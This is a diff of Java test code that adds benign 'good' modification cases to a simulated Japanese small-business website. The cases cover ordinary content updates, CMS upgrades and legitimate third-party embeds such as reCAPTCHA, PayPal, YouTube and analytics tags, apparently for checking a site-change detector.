+      e.site.insertAfter("/", "<dl class=\"news-list\">\n    ", item);
+      e.site.insertAfter("/news/", "<dl class=\"news-list\">", item);
+      e.site.putLike("/news/2026/11/000191.html", "/news/2026/11/000184.html", "<p class=\"date\">", "</div>",
+          "2026年11月20日</p><p>12月28日から1月5日まで休業いたします。</p>\n");
+    }));
+    v.add(good(G, "content", "[fresh4] PDF catalogues and drawings linked from the products page", e -> e.site.insertBefore(
+        "/products/", "<ul class=\"case-list\">", "<p><a href=\"{{origin}}/common/pdf/catalog-2026.pdf\">総合カタログ（PDF）"
+            + "</a>　<a href=\"{{origin}}/common/pdf/spec-deep.pdf\">深絞り加工の仕様書（PDF）</a>　<a href=\"{{origin}}/common/dl/"
+            + "sample.dxf\">図面サンプル（DXF）</a></p>")));
+    v.add(good(G, "content", "[fresh4] an English page linked from the header", e -> {
+      e.site.replace("*", "<a href=\"{{origin}}/common/pdf/kogane-catalog-en.pdf\">English (PDF)</a>", "<a href=\"{{origin}}/en/"
+          + "\">English</a>");
+      e.site.putLike("/en/", "/company/", "<div class=\"page-title\"><h1>", "</main>", "Company profile</h1></div>"
+          + "<div class=\"contents\"><p>KOGANE MFG. is a precision metal-pressing company founded in 1962 in Tsubame, Niigata. "
+          + "We design progressive and transfer dies and run deep-drawing production from prototypes to 100,000 parts a "
+          + "month, for automotive, appliance and medical customers.</p></div>\n");
+    }));
+    v.add(good(G, "embed", "[fresh4] Google Programmable Search box in the header", e -> e.site.insertBefore("*",
+        "<p class=\"header-lang\">", "<div class=\"header-search\"><script async src=\"https://cse.google.com/cse.js?cx="
+            + "a1b2c3d4e5f6g7h8i\"></script><div class=\"gcse-search\"></div></div>")));
+    v.add(good(G, "tags", "[fresh4] OneTrust cookie consent", e -> e.site.insertAfter("*", "<meta charset=\"UTF-8\">",
+        "\n<script src=\"https://cdn.cookielaw.org/scripttemplates/otSDKStub.js\" type=\"text/javascript\" charset=\"UTF-8\" "
+            + "data-domain-script=\"0191a2b3-c4d5-7e6f-8a9b-0c1d2e3f4a5b\"></script>\n<script type=\"text/javascript\">function "
+            + "OptanonWrapper() { }</script>")));
+    v.add(good(G, "tags", "[fresh4] reCAPTCHA Enterprise on the inquiry form", e -> e.site.insertBefore("/contact/",
+        "<p class=\"submit\">", "<script src=\"https://www.google.com/recaptcha/enterprise.js?render=6LeA1b2cAAAAAKq9rT3m\">"
+            + "</script><input type=\"hidden\" name=\"g-recaptcha-response\" id=\"g-recaptcha-response\">")));
+    v.add(good(G, "tags", "[fresh4] TypeSquare web fonts", e -> e.site.insertBefore("*", "</head>",
+        "<script type=\"text/javascript\" src=\"//typesquare.com/3/tsst/script/ja/typesquare.js?65f1a2b3c4d5e6f7&fadein=0\" "
+            + "charset=\"utf-8\"></script>\n")));
+    v.add(good(G, "embed", "[fresh4] 3D factory tour from Matterport on the technology page", e -> e.site.insertBefore(
+        "/technology/", "<h2>品質保証</h2>", "<h2>工場見学（3Dツアー）</h2><iframe width=\"853\" height=\"480\" src=\"https://my."
+            + "matterport.com/show/?m=Zh14WDtkjdC\" frameborder=\"0\" allowfullscreen allow=\"xr-spatial-tracking\"></iframe>")));
+    v.add(good(G, "embed", "[fresh4] factory video from YouTube on the home page", e -> e.site.insertBefore("/",
+        "<section class=\"top-products\">", "<section class=\"top-movie\"><iframe width=\"560\" height=\"315\" src=\"https://www."
+            + "youtube.com/embed/k3Gq9xVbN2w\" title=\"こがね製作所 会社紹介\" frameborder=\"0\" allowfullscreen></iframe></section>")));
+    v.add(good(H, "cms", "[fresh4] WordPress 6.6 → 6.7 (major update: generator, new core scripts and speculation rules)", e -> {
+      e.site.replace("*", "ver=6.6.2", "ver=6.7.1").replace("*", "content=\"WordPress 6.6.2\"", "content=\"WordPress 6.7.1\"");
+      e.site.insertBefore("*", "</body>", "<script type=\"speculationrules\">{\"prefetch\":[{\"source\":\"document\",\"where\":"
+          + "{\"and\":[{\"href_matches\":\"\\/*\"},{\"not\":{\"href_matches\":[\"\\/wp-*.php\",\"\\/wp-admin\\/*\"]}}]},"
+          + "\"eagerness\":\"conservative\"}]}</script>\n<script src=\"{{origin}}/wp-includes/js/dist/dom-ready.min.js?ver="
+          + "f77871ff7694fffea381\" id=\"wp-dom-ready-js\"></script>\n");
+    }));
+    v.add(good(K, "cms", "[fresh4] cart moved to the WooCommerce Cart block (block scripts and wcSettings)", e -> e.site.replace(
+        "/cart/", "<div class=\"entry-content\"><div class=\"woocommerce\">", "<div class=\"entry-content\"><div class=\"wp-block-"
+            + "woocommerce-cart alignwide is-loading\"></div><script id=\"wc-settings-js-before\">var wcSettings = wcSettings || "
+            + "JSON.parse( decodeURIComponent( '" + percentAll("{\"currency\":{\"code\":\"JPY\",\"symbol\":\"\u00a5\"},"
+            + "\"storeApiNonce\":\"ab12cd34\",\"checkoutUrl\":\"/checkout/\"}") + "' ) );</script><script src=\"{{origin}}/wp-content/"
+            + "plugins/woocommerce/assets/client/blocks/cart-frontend.js?ver=9.3.3\" id=\"wc-cart-block-frontend-js\"></script>"
+            + "<div class=\"woocommerce\">")));
+    v.add(good(T, "tags", "[fresh4] Yahoo! Ads conversion tag", e -> e.site.insertBefore("*", "</head>",
+        "<script async src=\"https://s.yimg.jp/images/listing/tool/cv/ytag.js\"></script>\n<script>window.yjDataLayer = window."
+            + "yjDataLayer || [];function ytag() { yjDataLayer.push(arguments); }ytag({\"type\":\"ycl_cookie\"});</script>\n")));
+    v.add(good(Y, "cms", "[fresh4] Homepage Builder re-publish: version 22, renamed CSS files", e -> {
+      e.site.replace("*", "Homepage Builder Version 21.0.5.0", "Homepage Builder Version 22.0.3.0")
+          .replace("*", "main_7Fa_2c.css", "main_8Fa_2c.css").replace("*", "container_7Fa_2c_top.css", "container_8Fa_2c_top.css");
+      e.site.put("/main_8Fa_2c.css", e.site.text("/main_7Fa_2c.css"));
+      e.site.put("/container_8Fa_2c_top.css", e.site.text("/container_7Fa_2c_top.css"));
+    }));
+    v.add(good(Y, "content", "[fresh4] a new page about the invoice system, linked from the navigation", e -> {
+      e.site.insertBefore("*", "<LI id=\"nav-faq\">", "<LI id=\"nav-invoice\"><A href=\"invoice.html\"><SPAN class=\"ja\">インボイス"
+          + "制度</SPAN><SPAN class=\"en\">invoice</SPAN></A>\n        ");
+      e.site.putLike("/invoice.html", "/faq.html", "<SPAN class=\"ja\">", "</SPAN><SPAN class=\"en\">", "インボイス制度");
+      e.site.replace("/invoice.html", "Q. 初回の相談は有料ですか？", "Q. 免税事業者も登録が必要ですか？");
+    }));
+    v.add(good(E, "embed", "[fresh4] PayPal buttons on the cart page", e -> e.site.insertBefore("/cart",
+        "<div class=\"ec-cartRole__actions\">", "<div id=\"paypal-button-container\"></div><script src=\"https://www.paypal.com/sdk/"
+            + "js?client-id=AbCdEf123456&currency=JPY&intent=capture\" data-partner-attribution-id=\"EC-CUBE4_Cart\"></script>\n")));
+    v.add(good(W, "embed", "[fresh4] Google Translate widget in the header", e -> e.site.insertBefore("*", "</header>",
+        "<div id=\"google_translate_element\"></div><script>function googleTranslateElementInit(){new google.translate."
+            + "TranslateElement({pageLanguage:'ja',includedLanguages:'en,zh-CN,ko'},'google_translate_element');}</script>"
+            + "<script src=\"//translate.google.com/translate_a/element.js?cb=googleTranslateElementInit\"></script>\n")));
+    v.add(good(S, "content", "[fresh4] a winter plan page with a price table, linked from the top page", e -> {
+      e.site.insertBefore("/", "<div align=\"right\">", "<p><a href=\"plan-winter.html\">▼冬の特別プランはこちら</a></p>");
+      e.site.putLike("/plan-winter.html", "/ryokin.html", "<font size=\"4\" color=\"#6B4E2E\"><b>", "</b>", "冬の特別プラン");
+    }));
+    v.add(good(C, "content", "[fresh4] shop section from the builder's store app, linking within the site", e ->
+        e.site.insertBefore("/", "<section id=\"comp-kt1a2b4a\"", "<section id=\"comp-shop01\" class=\"wixui-section\"><h2 class="
+            + "\"font_2\">オンラインショップ</h2><ul><li><a href=\"{{origin}}/product-page/blend\">こもれびブレンド 200g</a> 1,620円"
+            + "</li><li><a href=\"{{origin}}/product-page/drip\">ドリップバッグ 10袋</a> 1,400円</li></ul></section>")));
     return v;
   }
 }
